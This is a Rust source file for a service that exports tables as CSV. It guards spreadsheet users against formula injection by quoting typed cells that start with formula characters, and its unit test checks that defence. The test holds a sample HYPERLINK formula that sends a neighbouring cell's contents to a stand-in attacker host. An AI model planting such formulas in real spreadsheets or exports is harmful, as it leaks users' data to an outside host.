//! Tables as CSV files (RFC 4180, UTF-8, CRLF), the way spreadsheets and auditors read them,
//! with every cell that people typed made safe to open in a spreadsheet.

use super::Pence;

/// The characters that make a spreadsheet read a cell as a formula (or a field separator that
/// starts one), from OWASP's "CSV Injection" page: `=`, `+`, `-`, `@`, tab and carriage return.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One cell of an export: text that someone typed, or a figure the service wrote itself.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Cell {
    /// Written with a `'` in front when it starts like a formula (OWASP), so that a name such as
    /// `=HYPERLINK(…)` is shown, never run.
    Text(String),
    /// Written as it is: an amount such as `-12.50` for a refund stays a number.
    Figure(String),
}

impl Cell {
    fn written(&self) -> std::borrow::Cow<'_, str> {
        match self {
            Cell::Text(text) if text.starts_with(FORMULA_STARTS) => format!("'{text}").into(),
            Cell::Text(text) | Cell::Figure(text) => text.as_str().into(),
        }
    }
}

impl From<String> for Cell {
    fn from(text: String) -> Cell {
        Cell::Text(text)
    }
}

impl From<&str> for Cell {
    fn from(text: &str) -> Cell {
        Cell::Text(text.to_owned())
    }
}

/// Pounds and pence, `-12.50` for money going out.
impl From<Pence> for Cell {
    fn from(amount: Pence) -> Cell {
        Cell::Figure(amount.decimal())
    }
}

impl From<i64> for Cell {
    fn from(n: i64) -> Cell {
        Cell::Figure(n.to_string())
    }
}

/// A header and rows as CSV bytes; every text cell neutralised as [`Cell::Text`] says.
///
/// # Errors
/// Only if the CSV writer fails, which writing to memory does not.
pub fn to_csv<R>(header: &[&str], rows: R) -> Result<Vec<u8>, csv::Error>
where
    R: IntoIterator,
    R::Item: IntoIterator<Item = Cell>,
{
    let mut out = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(Vec::new());
    out.write_record(header)?;
    for row in rows {
        let cells: Vec<Cell> = row.into_iter().collect();
        out.write_record(cells.iter().map(|c| c.written().into_owned()))?;
    }
    out.into_inner().map_err(|e| csv::Error::from(e.into_error()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parsed(bytes: &[u8]) -> Vec<Vec<String>> {
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(bytes);
        reader.records().map(|r| r.expect("a record").iter().map(str::to_owned).collect()).collect()
    }

    #[test]
    fn typed_cells_that_start_like_a_formula_get_a_quote_and_figures_stay_numbers() {
        let typed = [
            "=HYPERLINK(\"http://evil.example/?x=\"&B2,\"receipt\")",
            "@SUM(1+1)",
            "+44 High Street",
            "-1",
            "\tTab",
            "\rReturn",
            "Jane, \"JD\" Doe",
            "",
        ];
        let rows = typed.iter().map(|t| vec![Cell::from(*t), Cell::from(Pence(-1250)), Cell::from(-3_i64)]);
        let table = parsed(&to_csv(&["typed", "amount", "shares"], rows).expect("csv"));
        assert_eq!(table[0], ["typed", "amount", "shares"]);
        let firsts: Vec<&str> = table[1..].iter().map(|r| r[0].as_str()).collect();
        assert_eq!(
            firsts,
            [
                "'=HYPERLINK(\"http://evil.example/?x=\"&B2,\"receipt\")",
                "'@SUM(1+1)",
                "'+44 High Street",
                "'-1",
                "'\tTab",
                "'\rReturn",
                "Jane, \"JD\" Doe",
                "",
            ]
        );
        assert!(table[1..].iter().all(|r| r[1] == "-12.50" && r[2] == "-3"), "{table:?}");
    }
}
